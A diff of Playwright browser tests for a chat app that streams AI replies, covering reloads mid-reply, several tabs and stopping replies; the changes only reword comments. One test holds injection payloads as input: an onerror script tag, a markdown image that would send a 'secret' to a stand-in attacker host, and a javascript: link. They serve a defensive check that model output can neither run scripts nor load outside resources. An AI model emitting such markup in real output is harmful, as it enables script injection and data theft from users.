@@ -1,4 +1,4 @@
-"""The page in a real browser: what a person sees while a reply is written."""
+"""The page in a real browser, as a person sees it while a worker writes a reply."""
 
 import re
 
@@ -17,24 +17,24 @@ def test_a_person_sees_the_reply_being_written_and_reloads_in_the_middle(
     sign_in(page, person)
     page.locator("[data-test=new-chat]").click()
 
-    # The placeholder stands there while the model has said nothing
+    # The placeholder shows while the model has said nothing
     write(page, "What is **bold**? fake:chunks=6,first=1500,gate=middle")
     expect(newest_reply(page)).to_have_attribute("data-status", re.compile("pending|running"))
     expect(newest_reply(page).locator("[data-test=content]")).to_have_text("")
     expect(page.locator("[data-test=credits]")).to_have_text("297")
 
-    # Then text appears, before the reply is done
+    # Then text appears before the reply ends
     content = newest_reply(page).locator("[data-test=content]")
     expect(content).not_to_have_text("")
     expect(newest_reply(page)).to_have_attribute("data-status", "running")
     first_piece = content.inner_text()
 
-    # A reload in the middle shows what is there
+    # A reload in the middle shows the text so far
     page.reload()
     expect(content).to_contain_text(first_piece)
     expect(newest_reply(page)).to_have_attribute("data-status", "running")
 
-    # And goes on, without losing or doubling any of it
+    # And the text goes on, with nothing lost or doubled
     expect(page.locator("body")).to_have_attribute("data-socket", "online")
     fake_model.open_gate("middle")
     expect(newest_reply(page)).to_have_attribute("data-status", "completed")
@@ -46,7 +46,7 @@ def test_a_person_sees_the_reply_being_written_and_reloads_in_the_middle(
 def test_every_open_tab_sees_it(page: Page, person: Person, programs: Programs) -> None:
     sign_in(page, person)
     other = page.context.new_page()
-    other.goto("/")  # the session is the browser's: no second sign-in
+    other.goto("/")  # the tabs share the browser's session, so there is no second sign-in
     expect(other.locator("body")).to_have_attribute("data-socket", "online")
 
     page.locator("[data-test=new-chat]").click()
@@ -81,7 +81,7 @@ def test_a_person_stops_a_reply_and_goes_on_with_what_waits(page: Page, person: 
     expect(waiting).to_have_attribute("data-status", "pending")
     expect(page.locator("[data-test=paused]")).to_be_hidden()
 
-    # Stopped: the text so far stays and is paid for, the model is let go, and what was asked after it waits
+    # After a stop the text stays and is paid for, the model is let go, and the next question waits
     stopped = page.locator("[data-message-id]:not([data-message-type=user])").first
     stopped.get_by_role("button", name="Stop").click()
     expect(stopped).to_have_attribute("data-status", "cancelled")
@@ -91,7 +91,7 @@ def test_a_person_stops_a_reply_and_goes_on_with_what_waits(page: Page, person: 
     expect(page.locator("[data-test=paused]")).to_be_visible()
     expect(waiting).to_contain_text("Waiting")
 
-    # Until the person goes on
+    # The next question waits until the person goes on
     page.get_by_role("button", name="Go on").click()
     expect(waiting).to_have_attribute("data-status", "completed")
     expect(page.locator("[data-test=paused]")).to_be_hidden()
@@ -137,7 +137,7 @@ def test_what_a_model_says_can_run_nothing_and_load_nothing(page: Page, person: 
     sign_in(page, person)
     page.locator("[data-test=new-chat]").click()
 
-    # the fake model quotes the question, so this is what it says
+    # the fake model quotes the question, so the answer has this text
     write(
         page,
         "<img src=x onerror=alert(1)> ![data](http://evil.example/?q=secret) [link](javascript:alert(2)) "
@@ -153,7 +153,7 @@ def test_what_a_model_says_can_run_nothing_and_load_nothing(page: Page, person: 
 
 
 def watch_for_requests_elsewhere(context: BrowserContext, programs: Programs) -> list[str]:
-    """Every address asked for that is not one of the programs'."""
+    """Every address that the page asks for outside of the programs."""
     elsewhere: list[str] = []
     ours = (programs.url, programs.realtime_url.replace("http", "ws", 1), programs.realtime_url)
     context.on("request", lambda request: None if request.url.startswith(ours) else elsewhere.append(request.url))
